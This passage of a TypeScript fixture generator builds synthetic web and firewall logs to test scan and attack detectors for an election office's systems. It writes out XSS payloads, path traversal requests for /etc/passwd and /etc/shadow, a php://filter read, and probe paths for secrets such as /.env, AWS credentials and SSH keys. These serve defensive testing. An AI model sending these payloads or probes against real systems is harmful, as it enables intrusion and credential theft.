/**
 * Writes the fixture folders of all detections, the same bytes every time: `node test/detect/make-fixtures.ts`.
 * Each folder test/detect/<ID>/ holds logs whose content is known by construction:
 *   fires*.log   the behaviour          quiet*.log  an innocent look-alike
 *   below.log    one short of it        at.log      exactly at the threshold
 * A case with two logs has a second file with `.firewall` before its ending; one of several counties has the county's
 * name there. What each case is stands in README.md.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { DAY_S, HOUR_S, oddPort, packet, page, request, SQL, times } from './log-lines.ts';
import { ELECTION_FIXTURES } from './make-election-fixtures.ts';
import { MEMBER_FIXTURES } from './make-member-fixtures.ts';

export interface Case {
  /** what it is, in words, for the README */
  says: string;
  web?: string[];
  firewall?: string[];
  /** logs of several counties of one state, by name: what is decided is the state's business */
  counties?: Record<string, string[]>;
}

export type Fixture = Record<string, Case>;

const S = '198.51.100.7';
const T = '192.0.2.44';
const web = (says: string, lines: string[]): Case => ({ says, web: lines });
const firewall = (says: string, lines: string[]): Case => ({ says, firewall: lines });
/** lines in order of time, as a log holds them: the builders give them with their second */
const inOrder = (lines: [number, string][]): string[] => lines.sort((a, b) => a[0] - b[0]).map(([, line]) => line);

/** An office's ordinary day: people who read pages and images, with a stray favicon. */
function visitors(n: number): [number, string][] {
  const pages = ['/', '/elections/', '/elections/dates.html', '/voter/register', '/polling-places', '/contact'];
  return times(n, (i): [number, string][] =>
    pages.map((path, k) => [i * 97 + k * 11, page(`192.0.2.${100 + (i % 100)}`, i * 97 + k * 11, path)]),
  ).flat();
}

const host = (i: number) => `203.0.113.${10 + i}`;
const firefoxPages = (source: string, from: number, n: number): string[] =>
  times(n, (i) => page(source, from + i * 3, `/news/2026/${i}.html`));

const SENSITIVE_PATHS = ['/.env', '/.git/config', '/backup.sql', '/.aws/credentials', '/wp-config.php.bak', '/id_rsa'];
const LISTED = [
  '/.env',
  '/.git/config',
  '/phpmyadmin/index.php',
  '/adminer.php',
  '/wp-login.php',
  '/wp-content/plugins/akismet/readme.txt',
  '/xmlrpc.php',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/remote/fgt_lang',
  '/actuator/env',
  '/.aws/credentials',
  '/id_rsa',
  '/.svn/entries',
  '/manager/html',
  '/wp-config.php.bak',
  '/.htpasswd',
];
const XSS = [
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
  '%3Csvg/onload%3Dalert(document.domain)%3E',
  'javascript%3Aalert(1)//%3Cscript%3E',
];
const SEARCHES = [
  'select+committee+members',
  'union+select+board',
  'drop+off+locations',
  '4.+Select+the+form',
  'O%27Brien',
  'this+is+not+valid',
  'insert+vs+crop',
  'what%27s+on+my+ballot',
  'order+by+county',
  'etc+passwd+form',
  'script+for+poll+workers',
  'alert+list',
];

/** A person's tool that synchronises files: many given, some missing. */
function syncClient(source: string): string[] {
  const agent = 'Mozilla/5.0 (Linux) mirall/3.13.0 (Nextcloud)';
  return times(60, (i) =>
    i % 4 === 3
      ? request(source, i * 2, `/remote.php/dav/files/anna/Photos/2026-${i}.jpg.part`, { method: 'DELETE', agent })
      : request(source, i * 2, `/remote.php/dav/files/anna/Documents/${i}/`, {
          method: 'PROPFIND',
          status: 207,
          size: 2100 + i,
          agent,
        }),
  );
}

/** one of ninety addresses of the block that `visitors` are in */
const readerAt = (i: number): string => `192.0.2.${100 + i}`;
const CRAWLER = 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)';

/** one of two hundred addresses that share no block (the benchmarking range, RFC 2544) */
const strangerAt = (i: number): string => `198.18.${20 + i}.${9 + (i % 7)}`;

/** People who log in at a portal: a third of them mistype, and are answered with `status`. */
function members(n: number, status = 401): [number, string][] {
  return times(n, (i): [number, string][] => {
    const [source, from] = [`198.19.${20 + i}.4`, i * 1100];
    const at = (second: number, line: string): [number, string] => [from + second, line];
    return [
      at(0, page(source, from, '/portal/login')),
      at(1, page(source, from + 1, '/portal/assets/portal.css')),
      ...(i % 3 === 0 ? [at(12, login(source, from + 12, status, 2412))] : []),
      at(25, login(source, from + 25, 302, 0)),
      at(26, page(source, from + 26, '/portal/home')),
    ];
  }).flat();
}

/** what people are given of the forms of an office */
const FORMS = times(12, (i): [number, string] => [
  i * 50 + 5,
  page(readerAt(i), i * 50 + 5, `/download?file=form${i}.pdf`),
]);

/** a name of a list as tools have it: one of twelve is looked for by every scanner */
const sharedName = (i: number): string => (i % 12 === 5 ? LISTED[Math.floor(i / 12)]! : `/word${i}`);

const login = (source: string, second: number, status: number, size = 512): string =>
  request(source, second, '/portal/login', { method: 'POST', status, size });

/** a scan that is a burst and nothing else: 7 low ports within a second */
const burst = (source: string, from: number, to = host(0)): string[] =>
  [21, 25, 110, 111, 135, 139, 143].map((port, i) => packet(source, from + i / 10, port, { to }));

/** fifteen and more senders that share the ports of one address */
function shared(n: number, each: number, portOf: (i: number, k: number) => number, from = 0): [number, string][] {
  return times(n, (i) =>
    times(each, (k): [number, string] => {
      const at = from + i * 61 + k * 700;
      return [at, packet(`198.51.100.${10 + i}`, at, portOf(i, k))];
    }),
  ).flat();
}

const voter = (source: string, second: number, id: number | string, status = 200): string =>
  request(source, second, `/lookup/voter?voterid=${id}`, { status, size: status === 200 ? 4100 : 300 });
/** numbers that look drawn at random, the same every time */
const scattered = (i: number) => 100_000 + ((i * 7_368_787 + 12_345) % 8_999_993);

const FIXTURES: Readonly<Record<string, Fixture>> = {
  F01: {
    fires: firewall(
      'one source asks for 40 ports of one address, one every 20 seconds',
      times(40, (i) => packet(S, i * 20, oddPort(i))),
    ),
    'fires-ack': firewall(
      '20 ports with ACK alone (nmap -sA)',
      times(20, (i) => packet(S, i * 20, oddPort(i), { flags: 'ACK' })),
    ),
    'fires-from-port-53': firewall(
      '20 ports with a SYN from source port 53, and 20 low UDP ports from 443, to slip past a filter',
      [
        ...times(20, (i) => packet(S, i * 20, oddPort(i), { from: 53 })),
        ...times(20, (i) => packet(T, 500 + i * 20, 600 + i, { from: 443, udp: true })),
      ],
    ),
    'fires-ipv6': firewall(
      'an IPv6 customer changes its address within its /64 with every packet',
      times(20, (i) =>
        packet(`2001:0db8:0001:0002:0000:0000:0000:${(i + 1).toString(16).padStart(4, '0')}`, i * 20, oddPort(i), {
          to: '2001:0db8:0010:0000:0000:0000:0000:0010',
        }),
      ),
    ),
    'fires-ufw': firewall(
      'what UFW leaves of a thousand-port scan: ten lines at once, then three a minute',
      times(10, (i) => packet(S, i / 100, oddPort(i * 13), { ufw: true })),
    ),
    quiet: firewall('late answers of DNS servers and web servers, leftovers of closed connections, backscatter', [
      ...times(40, (i) => packet('192.0.2.53', i * 5, 32768 + i * 91, { udp: true, from: 53 })),
      ...times(40, (i) => packet('192.0.2.80', 300 + i * 5, 32768 + i * 91, { from: 443, flags: 'ACK PSH' })),
      ...times(40, (i) => packet('192.0.2.81', 600 + i * 5, 1024 + i * 91, { from: 80, flags: 'ACK SYN' })),
      ...times(40, (i) => packet('192.0.2.82', 900 + i * 5, 1024 + i * 91, { flags: 'ACK RST' })),
    ]),
    'quiet-traceroute': firewall(
      'a traceroute that meets a firewall: some eighty UDP ports in a row from 33434',
      times(80, (i) => packet('192.0.2.90', i / 2, 33434 + i, { udp: true, from: 51000 })),
    ),
    'quiet-late': firewall('leftovers of connections to services on other ports, answers of conference servers', [
      ...times(40, (i) => packet('192.0.2.83', i * 5, 32768 + i * 91, { from: 8443, flags: 'ACK FIN' })),
      ...times(40, (i) => packet('192.0.2.84', 300 + i * 5, 40000 + i * 91, { from: 5223, flags: 'ACK PSH' })),
      ...times(60, (i) => packet('192.0.2.85', 600 + i * 5, 16384 + i * 2, { udp: true, from: 3478 })),
    ]),
    'quiet-peers': firewall(
      'file sharing: 300 peers ask for the two ports that somebody had open yesterday',
      times(300, (i) =>
        packet(`192.0.2.${i % 250}`, i * 7, i % 3 === 0 ? 51413 : 6881, { udp: i % 2 === 0, from: 10000 + i }),
      ),
    ),
    below: firewall(
      '14 ports',
      times(14, (i) => packet(S, i * 20, oddPort(i))),
    ),
    at: firewall(
      '15 ports',
      times(15, (i) => packet(S, i * 20, oddPort(i))),
    ),
  },
  F02: {
    fires: firewall(
      '30 ports within two seconds',
      times(30, (i) => packet(S, i / 15, 20 + i)),
    ),
    quiet: firewall(
      'a program tries the same port again and again, fast',
      times(60, (i) => packet(T, i / 10, 8883, { from: 50000 + i })),
    ),
    below: firewall('six low ports and two high ones in a second: 20', [
      ...times(6, (i) => packet(S, i / 10, 100 + i)),
      ...times(2, (i) => packet(S, 0.8, 5001 + i)),
    ]),
    at: firewall(
      'seven low ports in a second: 21',
      times(7, (i) => packet(S, i / 10, 100 + i)),
    ),
  },
  F03: {
    fires: firewall(
      'one port on 20 of 20 addresses',
      times(20, (i) => packet(S, i * 15, 8291, { to: host(i) })),
    ),
    quiet: firewall('mail servers that deliver again to a port that is closed on two addresses', [
      ...times(20, (i) => packet(T, i * 60, 25, { to: host(i % 2) })),
      ...times(20, (i) => packet(`192.0.2.${i + 1}`, i * 70, 23, { to: host(i) })),
    ]),
    below: firewall('five of 12 addresses, where half is six', [
      ...times(5, (i) => packet(S, i * 30, 8291, { to: host(i) })),
      ...times(12, (i) => packet(`192.0.2.${i + 1}`, 400 + i, 23, { to: host(i) })),
    ]),
    at: firewall('six of 12 addresses', [
      ...times(6, (i) => packet(S, i * 30, 8291, { to: host(i) })),
      ...times(12, (i) => packet(`192.0.2.${i + 1}`, 400 + i, 23, { to: host(i) })),
    ]),
  },
  F04: {
    fires: firewall(
      '6 ports on 8 addresses',
      times(48, (i) => packet(S, i * 12, oddPort(i % 6), { to: host(Math.floor(i / 6)) })),
    ),
    quiet: firewall(
      'a partner that asks for one service on every address of a farm, and two others on one',
      [0, 1, 2].flatMap((k) => times(10, (i) => packet(T, i * 400 + k, 8883, { to: host(i % 2) }))),
    ),
    below: firewall(
      '24 pairs over 5 ports and 5 addresses',
      times(24, (i) => packet(S, i * 12, oddPort(i % 5), { to: host(Math.floor(i / 5)) })),
    ),
    at: firewall(
      '25 pairs over 5 ports and 5 addresses',
      times(25, (i) => packet(S, i * 12, oddPort(i % 5), { to: host(Math.floor(i / 5)) })),
    ),
  },
  F06: {
    fires: firewall(
      'one new port every 50 minutes for 20 hours, over midnight',
      times(24, (i) => packet(S, i * 3000, oddPort(i))),
    ),
    'fires-month': firewall(
      'five new ports a day on four days, an hour apart',
      times(20, (i) => packet(S, Math.floor(i / 5) * DAY_S * 2 + (i % 5) * HOUR_S, oddPort(i))),
    ),
    quiet: firewall(
      'a broken client asks for one port of one address every ten minutes, all day',
      times(140, (i) => packet(T, i * 600, 8530, { from: 40000 + i })),
    ),
    below: firewall(
      'nine ports, one every 40 minutes',
      times(9, (i) => packet(S, i * 2400, oddPort(i))),
    ),
    at: firewall(
      'ten ports, one every 40 minutes',
      times(10, (i) => packet(S, i * 2400, oddPort(i))),
    ),
  },
  F09: {
    fires: firewall('telnet, remote desktop and file sharing; the firewall lets remote desktop through', [
      packet(S, 0, 23),
      packet(S, 60, 445),
      packet(S, 120, 3389, { allowed: true }),
    ]),
    'fires-denied': firewall(
      'six such services, all denied',
      [22, 23, 445, 1433, 3389, 5900].map((port, i) => packet(S, i * 300, port)),
    ),
    quiet: firewall('Internet background: 60 sources, each one or two such ports', [
      ...times(60, (i) => packet(`192.0.2.${i + 1}`, i * 40, [22, 23, 445, 3389][i % 4]!)),
      ...times(20, (i) => packet(`192.0.2.${i + 1}`, 3000 + i * 40, [23, 445, 3389, 22][i % 4]!)),
    ]),
    below: firewall(
      'two such services',
      [23, 3389].map((port, i) => packet(S, i * 60, port)),
    ),
    at: firewall(
      'three such services, which is for the record',
      [23, 445, 3389].map((port, i) => packet(S, i * 60, port)),
    ),
  },
  F13: {
    fires: firewall(
      'packets with FIN, PSH and URG to 12 ports',
      times(12, (i) => packet(S, i * 30, oddPort(i), { flags: 'PSH FIN URG' })),
    ),
    'fires-null': firewall(
      'packets without any flag to 5 ports',
      times(5, (i) => packet(S, i * 30, 20 + i, { flags: '' })),
    ),
    quiet: firewall('late ends of old connections: FIN with ACK to many ports, FIN alone again and again to one', [
      ...times(30, (i) => packet('192.0.2.80', i * 5, 40000 + i, { from: 443, flags: 'ACK FIN' })),
      ...times(30, (i) => packet('192.0.2.81', 300 + i * 5, 8443, { flags: 'FIN' })),
    ]),
    below: firewall(
      'to one port',
      times(2, (i) => packet(S, i * 5, 8443, { flags: 'FIN' })),
    ),
    at: firewall(
      'to two ports',
      times(2, (i) => packet(S, i * 5, 8443 + i, { flags: 'FIN' })),
    ),
  },
  F15: {
    fires: firewall(
      'eight addresses of one /24 scan within half an hour',
      times(8, (i) => burst(`198.51.100.${20 + i}`, i * 200)).flat(),
    ),
    'fires-week': firewall(
      'ten addresses of one /24, two a day on five days',
      times(10, (i) => burst(`198.51.100.${20 + i}`, Math.floor(i / 2) * DAY_S + (i % 2) * 5 * HOUR_S)).flat(),
    ),
    quiet: firewall(
      'forty addresses of a phone company, a stray packet each',
      times(40, (i) => packet(`198.51.100.${20 + i}`, i * 60, [23, 445, 5555, 8080][i % 4]!)),
    ),
    below: firewall('four addresses within the hour', times(4, (i) => burst(`198.51.100.${20 + i}`, i * 200)).flat()),
    at: firewall('five addresses within the hour', times(5, (i) => burst(`198.51.100.${20 + i}`, i * 200)).flat()),
  },
  F16: {
    fires: firewall(
      'twenty addresses share out 100 ports of one address, five each',
      inOrder(shared(20, 5, (i, k) => 2100 + i * 5 + k)),
    ),
    quiet: firewall(
      'twenty addresses that all try the same five ports',
      inOrder(shared(20, 5, (_, k) => 9301 + k * 7)),
    ),
    'quiet-background': firewall(
      'forty addresses that try what everybody is probed for',
      inOrder(
        shared(40, 3, (i, k) => [21, 22, 23, 80, 443, 445, 3389, 8080, 5900, 6379, 5060, 1433][(i + k * 5) % 12]!),
      ),
    ),
    below: firewall('14 addresses with two ports each', inOrder(shared(14, 2, (i, k) => 2100 + i * 2 + k))),
    at: firewall('15 addresses with one port each', inOrder(shared(15, 1, (i) => 2100 + i))),
  },
  F18: {
    fires: firewall('a scan of 20 ports, and then a connection to one of them that is let through', [
      ...times(20, (i) => packet(S, i * 20, oddPort(i))),
      packet(S, 900, 8443, { allowed: true }),
    ]),
    quiet: firewall('a scan by one source, connections of others; the web server stays open to all', [
      packet('192.0.2.9', 0, 8443, { allowed: true }),
      ...times(6, (i) => packet(S, 10 + i * 20, oddPort(i))),
      packet(S, 600, 443, { allowed: true }),
      packet('192.0.2.9', 900, 8443, { allowed: true }),
    ]),
    below: firewall('let through more than 24 hours after the scan', [
      ...times(20, (i) => packet(S, i * 20, oddPort(i))),
      packet(S, 25 * HOUR_S + 900, 8443, { allowed: true }),
    ]),
    at: firewall('let through 24 hours after the scan', [
      ...times(20, (i) => packet(S, i * 20, oddPort(i))),
      packet(S, 24 * HOUR_S, 8443, { allowed: true }),
    ]),
  },
  W01: {
    fires: web(
      'thirty pages that are not there, one every half minute',
      times(30, (i) => request(S, i * 30, `/area${i}/`)),
    ),
    'fires-head': web(
      'with HEAD, and a made-up referrer on every request',
      times(40, (i) =>
        request(S, i * 10, `/area${i}/`, { method: 'HEAD', size: 0, referrer: 'https://www.google.com/' }),
      ),
    ),
    'fires-limited': web(
      'a server that limits the rate (429), hangs up (444), or says that the page is gone (410)',
      times(24, (i) => request(S, i * 10, `/area${i}/`, { status: [429, 444, 410, 404][i % 4]!, size: 0 })),
    ),
    'fires-ipv6': web(
      'an IPv6 customer changes its address within its /64',
      times(20, (i) => request(`2001:db8:1:2::${(i + 1).toString(16)}`, i * 10, `/area${i}/`)),
    ),
    quiet: web('a crawler with old links, a sync client, a gallery whose pictures are gone, a broken newsletter link', [
      ...times(80, (i) =>
        i % 5 === 0
          ? request('192.0.2.66', i * 20, `/old/${i}.html`, { agent: 'Mozilla/5.0 (compatible; Examplebot/2.1)' })
          : page('192.0.2.66', i * 20, `/pages/${i}.html`, { agent: 'Mozilla/5.0 (compatible; Examplebot/2.1)' }),
      ),
      ...syncClient('192.0.2.67'),
      ...times(40, (i) =>
        request('192.0.2.68', i, `/gallery/2025/img_${i}.jpg`, { referrer: 'https://www.example.gov/gallery/' }),
      ),
      ...times(90, (i) => request(`192.0.2.${100 + i}`, i * 13, '/newsletter/september-registration-deadlin')),
    ]),
    below: web(
      'ten pages',
      times(10, (i) => request(S, i * 30, `/area${i}/`)),
    ),
    at: web(
      '11 pages',
      times(11, (i) => request(S, i * 30, `/area${i}/`)),
    ),
    'fires-shared': web(
      'a list of 144 names, some of which scanners look for, shared out between 24 addresses of one block over 20 hours',
      times(144, (i) =>
        request(`198.51.100.${20 + Math.floor(i / 6)}`, Math.floor(i / 6) * 3000 + (i % 6) * 7, sharedName(i)),
      ),
    ),
    'fires-shared-ipv6': web(
      'forty names, shared out between four neighbouring networks of one IPv6 customer',
      times(40, (i) => request(`2001:db8:1:${(i % 4) + 16}::${(i + 1).toString(16)}`, i * 12, `/area${i}/`)),
    ),
    'fires-shared-listed': web(
      'twelve names that scanners look for, one from each of twelve addresses of a block',
      times(12, (i) => request(`198.51.100.${40 + i}`, i * 900, LISTED[i]!)),
    ),
    'quiet-shared': web(
      "a university's block after a newsletter with broken links: ninety readers, some with old bookmarks, who read on",
      inOrder([
        ...visitors(90),
        ...times(90, (i): [number, string] => [i * 31, request(readerAt(i), i * 31, `/newsletter/${i % 4}/deadline`)]),
        ...times(36, (i): [number, string] => [i * 97 + 80, request(readerAt(i), i * 97 + 80, `/2019/form${i}.html`)]),
        ...times(12, (i): [number, string] => [i * 97 + 85, request(readerAt(i), i * 97 + 85, `/2018/form${i}.html`)]),
      ]),
    ),
    'quiet-shared-links': web(
      'phones of one IPv6 block: two hundred readers, each with a dead link of its own, and a few who try it in other ways',
      times(200, (i) => [
        ...times(i % 20 === 0 ? 2 : 1, (k) =>
          request(`2001:db8:77:${(i + 1).toString(16)}::5`, i * 20 + k, `/news/r/${i * 7919}${'/'.repeat(k)}`),
        ),
        ...(i % 3 === 0 ? [page(`2001:db8:77:${(i + 1).toString(16)}::5`, i * 20 + 9, '/elections/')] : []),
      ]).flat(),
    ),
    'quiet-shared-crawler': web(
      'a crawler of twenty addresses with old links: three of five are dead',
      times(100, (i) =>
        (i % 5 < 3 ? request : page)(`192.0.2.${20 + (i % 20)}`, i * 60, `/clerk/page${i}.html`, { agent: CRAWLER }),
      ),
    ),
    'below-shared': web(
      'thirty-two names, eight from each of four addresses of a block',
      times(32, (i) => request(`198.51.100.${20 + (i % 4)}`, i * 40, `/area${i}/`)),
    ),
    'below-shared-same': web(
      'twelve addresses of a block that try the same ten names',
      times(120, (i) => request(`198.51.100.${20 + Math.floor(i / 10)}`, i * 40, `/area${i % 10}/`)),
    ),
    'at-shared': web(
      'thirty-three names, at most nine from each of four addresses of a block',
      times(33, (i) => request(`198.51.100.${20 + (i % 4)}`, i * 40, `/area${i}/`)),
    ),
  },
  W02: {
    fires: web(
      '40 missing pages in ten minutes, between them three that exist',
      times(43, (i) => (i % 14 === 5 ? page(S, i * 12, `/page${i}`) : request(S, i * 12, `/x${i}`))),
    ),
    quiet: web('somebody with old bookmarks: 12 missing pages, 60 that exist', [
      ...times(72, (i) => (i % 6 === 0 ? request(T, i * 8, `/2019/${i}.html`) : page(T, i * 8, `/site/${i}.html`))),
    ]),
    below: web(
      '19 failing requests for 19 pages',
      times(19, (i) => request(S, i * 12, `/x${i}`)),
    ),
    at: web(
      '20 failing requests for 20 pages',
      times(20, (i) => request(S, i * 12, `/x${i}`)),
    ),
  },
  W03: {
    fires: web(
      'a wordlist of 700 names in seven minutes',
      times(700, (i) => request(S, i * 0.6, `/word${i}`, { agent: 'Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36' })),
    ),
    'fires-slow': web(
      'a wordlist of 560 names over 50 minutes, a third answered 301',
      times(560, (i) => request(S, i * 5.3, `/word${i}`, i % 3 === 0 ? { status: 301, size: 0 } : {})),
    ),
    quiet: web('a search engine reads 700 pages that exist and 60 that do not', [
      ...times(760, (i) =>
        i % 13 === 0
          ? request('192.0.2.66', i * 4, `/gone/${i}`, { agent: 'Mozilla/5.0 (compatible; Examplebot/2.1)' })
          : page('192.0.2.66', i * 4, `/doc/${i}`, { agent: 'Mozilla/5.0 (compatible; Examplebot/2.1)' }),
      ),
    ]),
    below: web(
      '500 failing requests for 250 pages',
      times(500, (i) => request(S, i, `/word${i % 250}`)),
    ),
    at: web(
      '501 failing requests for 251 pages',
      times(501, (i) => request(S, i, `/word${i % 251}`)),
    ),
  },
  W04: {
    fires: web(
      '16 names of the lists, one every 50 minutes',
      LISTED.map((path, i) => request(S, i * 3000, path)),
    ),
    'fires-days': web(
      'five names of the lists a day on three days',
      times(15, (i) => request(S, Math.floor(i / 5) * DAY_S + (i % 5) * 4000, LISTED[i % 5]!)),
    ),
    quiet: web(
      'a link checker: the same four missing pages every hour, and pages that exist',
      times(24, (i) => [
        ...times(4, (k) => request(T, i * HOUR_S + k, `/links/gone${k}.html`)),
        ...firefoxPages(T, i * HOUR_S + 10, 10),
      ]).flat(),
    ),
    below: web(
      '14 names',
      LISTED.slice(0, 14).map((path, i) => request(S, i * 3000, path)),
    ),
    at: web(
      '15 names',
      LISTED.slice(0, 15).map((path, i) => request(S, i * 3000, path)),
    ),
  },
  W05: {
    fires: web(
      'six files that should not be public, none of them there',
      SENSITIVE_PATHS.map((path, i) => request(S, i * 5, path)),
    ),
    'fires-answered': web('three such files, and one of them is there', [
      ...times(5, (i) => request(T, i, `/gone${i}`)),
      request(S, 60, '/.git/config'),
      request(S, 63, '/.env', { status: 200, size: 1287 }),
      request(S, 66, '/backup.sql'),
    ]),
    'fires-single': web('one such file, asked for once, and it is there', [
      ...times(5, (i) => request(T, i, `/gone${i}`)),
      request(S, 60, '/.env', { status: 200, size: 1287 }),
    ]),
    'quiet-page-application': web(
      'a page application loads its own settings, for everybody',
      times(9, (i) =>
        [
          '/',
          '/assets/app.js',
          '/assets/app.css',
          '/config.json',
          '/settings.json',
          '/dates',
          '/offices',
          '/ballot',
          '/polling-places',
        ].map((path, k) => page(`192.0.2.${40 + i}`, i * 60 + k, path)),
      ).flat(),
    ),
    'below-front-page': web('one such file on a site that answers everything with its front page', [
      ...times(5, (i) => page(T, i, `/page${i}`, { size: 5124 })),
      request(S, 60, '/.env', { status: 200, size: 5124 }),
    ]),
    quiet: web('what is public: /.well-known, forms, a backup-plan document, a configuration guide', [
      ...['/.well-known/security.txt', '/.well-known/assetlinks.json', '/.well-known/acme-challenge/x'].map((p, i) =>
        request('192.0.2.70', i * 9, p),
      ),
      page('192.0.2.71', 40, '/forms/backup-plan.pdf'),
      page('192.0.2.71', 44, '/guides/environment.html'),
      page('192.0.2.71', 48, '/git-hub-of-the-county'),
    ]),
    below: web('one such file', [request(S, 0, '/.env')]),
    at: web('two such files', [request(S, 0, '/.env'), request(S, 9, '/.git/config')]),
  },
  W06: {
    fires: web(
      'five consoles',
      ['/phpmyadmin/index.php', '/adminer.php', '/manager/html', '/pma/index.php', '/solr/admin/'].map((path, i) =>
        request(S, i * 5, path),
      ),
    ),
    quiet: web('staff who use the console that they have', [
      ...times(12, (i) => page('192.0.2.20', i * 30, `/phpmyadmin/index.php?db=${i}`)),
      request('192.0.2.20', 400, '/phpmyadmin/favicon.ico'),
    ]),
    below: web(
      'two consoles',
      ['/phpmyadmin/index.php', '/adminer.php'].map((path, i) => request(S, i * 5, path)),
    ),
    at: web(
      'three consoles',
      ['/phpmyadmin/index.php', '/adminer.php', '/manager/html'].map((path, i) => request(S, i * 5, path)),
    ),
  },
  W07: {
    fires: web(
      'six paths of a content management system that is not there',
      [
        '/wp-login.php',
        '/wp-content/plugins/akismet/readme.txt',
        '/wp-admin/setup-config.php',
        '/wp-includes/wlwmanifest.xml',
        '/xmlrpc.php',
        '/wp-json/wp/v2/users',
      ].map((path, i) => request(S, i * 7, path)),
    ),
    quiet: web('a site that runs it: editors and visitors', [
      page('192.0.2.21', 0, '/wp-login.php'),
      request('192.0.2.21', 10, '/wp-login.php', { method: 'POST', status: 302, size: 0 }),
      ...times(8, (i) => page('192.0.2.21', 20 + i * 9, `/wp-admin/post.php?post=${i}&action=edit`)),
      ...times(8, (i) => page('192.0.2.22', 30 + i * 9, `/wp-content/uploads/2026/09/flyer${i}.pdf`)),
    ]),
    below: web(
      'three paths',
      ['/wp-login.php', '/wp-admin/setup-config.php', '/xmlrpc.php'].map((path, i) => request(S, i * 7, path)),
    ),
    at: web(
      'four paths',
      ['/wp-login.php', '/wp-admin/setup-config.php', '/xmlrpc.php', '/wp-includes/wlwmanifest.xml'].map((path, i) =>
        request(S, i * 7, path),
      ),
    ),
  },
  W08: {
    fires: web(
      'four published holes of products that are not there',
      [
        '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession',
        '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
        '/actuator/gateway/routes',
        '/_ignition/execute-solution',
      ].map((path, i) => request(S, i * 7, path)),
    ),
    'fires-answered': web('one published hole, and the page is there', [
      ...times(5, (i) => request(T, i, `/gone${i}`)),
      request(S, 60, '/actuator/env', { status: 200, size: 9321 }),
    ]),
    quiet: web(
      'pages of the office with similar names',
      ['/remote/work-policy', '/vendors/list', '/actuators-and-ballot-machines', '/api/v2/precincts'].map((p, i) =>
        page('192.0.2.72', i * 9, p),
      ),
    ),
    below: web('a page that is not there and in no list', [request(S, 0, '/remote-login-help')]),
    at: web('one published hole', [request(S, 0, '/remote/fgt_lang')]),
  },
  W09: {
    fires: web(
      'a tool that names itself',
      times(3, (i) =>
        request(S, i, `/?id=${i}`, { status: 200, size: 5000, agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' }),
      ),
    ),
    quiet: web('monitors, libraries and browsers', [
      ...times(30, (i) => page('192.0.2.30', i * 60, '/health', { agent: 'libwww-perl/6.67' })),
      ...times(30, (i) => page('192.0.2.31', i * 60, '/health', { agent: 'curl/8.5.0' })),
      ...times(30, (i) => page('192.0.2.32', i * 60, '/', { agent: 'python-requests/2.32.0' })),
    ]),
    below: web(
      'two visits of a scanner of the whole Internet',
      times(2, (i) => page(S, i * 900, '/', { agent: 'Mozilla/5.0 zgrab/0.x' })),
    ),
    at: web(
      'three visits of a scanner of the whole Internet',
      times(3, (i) => page(S, i * 900, '/', { agent: 'Mozilla/5.0 zgrab/0.x' })),
    ),
  },
  W10: {
    fires: web('test text of a vulnerability scanner in a form, with the user agent of a browser', [
      page(S, 0, '/voter/register?voterid[$acunetix]=1'),
      page(S, 2, '/voter/register?v[$acunetix]=1'),
    ]),
    quiet: web('a visitor who searches for words, and a canary bird', [
      page(T, 0, '/search?q=canary+wharf+polling+place'),
      page(T, 9, '/search?q=nessie+loch'),
    ]),
    below: web('an ordinary parameter', [page(S, 0, '/voter/register?voterid=1')]),
    at: web('one request with test text', [page(S, 0, '/voter/register?voterid[$acunetix]=1')]),
  },
  W11: {
    fires: web(
      'seven tries on one field, an hour apart',
      SQL.slice(0, 7).map((value, i) => page(S, i * HOUR_S, `/lookup/voter?lastname=${value}`)),
    ),
    'fires-fast': web(
      'forty tries in a minute, the server fails on some',
      times(40, (i) =>
        request(
          S,
          i,
          `/lookup/voter?lastname=${SQL[i % 8]!.replace('1', `1${i}`)}`,
          i % 9 === 0 ? { status: 500, size: 90 } : { status: 200, size: 4000 },
        ),
      ),
    ),
    quiet: web(
      'people who search in English',
      SEARCHES.map((words, i) => page(`192.0.2.${30 + i}`, i * 60, `/search?q=${words}`)),
    ),
    below: web('a name with an apostrophe', [page(S, 0, '/lookup/voter?lastname=O%27Brien')]),
    at: web('one try', [page(S, 0, `/lookup/voter?lastname=${SQL[0]}`)]),
  },
  W12: {
    fires: web(
      'forty values with query characters for one field, from a scanner that looks like a browser',
      times(40, (i) => page(S, i * 4, `/lookup/voter?lastname=a%27%22(${i})%3B`)),
    ),
    quiet: web(
      'people whose names hold an apostrophe, or who search for a phrase',
      times(40, (i) =>
        page(
          '192.0.2.60',
          i * 9,
          `/lookup/voter?lastname=O%27${'BCDFGHJKLM'[i % 10]!}${'aeio'[i % 4]!}${'lnrst'[i % 5]!}`,
        ),
      ),
    ),
    below: web(
      '14 values',
      times(14, (i) => page(S, i * 4, `/lookup/voter?lastname=%27%22(${i})`)),
    ),
    at: web(
      '15 values',
      times(15, (i) => page(S, i * 4, `/lookup/voter?lastname=%27%22(${i})`)),
    ),
  },
  W13: {
    fires: web(
      'four scripts in a search field',
      XSS.map((value, i) => page(S, i * 40, `/search?q=${value}`)),
    ),
    quiet: web('people who search for scripts and alerts, and for a phrase in angle quotes', [
      page(T, 0, '/search?q=script+for+poll+workers'),
      page(T, 9, '/search?q=alert(s)+by+text'),
      page(T, 18, '/search?q=%3C18+years+old'),
      page(T, 27, '/search?q=image+on+error+page'),
    ]),
    below: web(
      'two scripts',
      XSS.slice(0, 2).map((value, i) => page(S, i * 40, `/search?q=${value}`)),
    ),
    at: web(
      'three scripts',
      XSS.slice(0, 3).map((value, i) => page(S, i * 40, `/search?q=${value}`)),
    ),
  },
  W14: {
    fires: web('four ways out of the web folder', [
      request(S, 0, '/download?file=../../../../etc/passwd'),
      request(S, 5, '/download?file=..%2f..%2f..%2f..%2fetc%2fshadow', { status: 400 }),
      request(S, 9, '/static/..%252f..%252f..%252fwindows/win.ini'),
      request(S, 14, '/download?file=php://filter/convert.base64-encode/resource=index.php'),
    ]),
    quiet: web('pages with relative links that a crawler did not resolve, and a title with dots', [
      page(T, 0, '/css/../img/seal.png'),
      page(T, 5, '/forms/../forms/register.pdf'),
      page(T, 9, '/search?q=etc...+and+passwords'),
    ]),
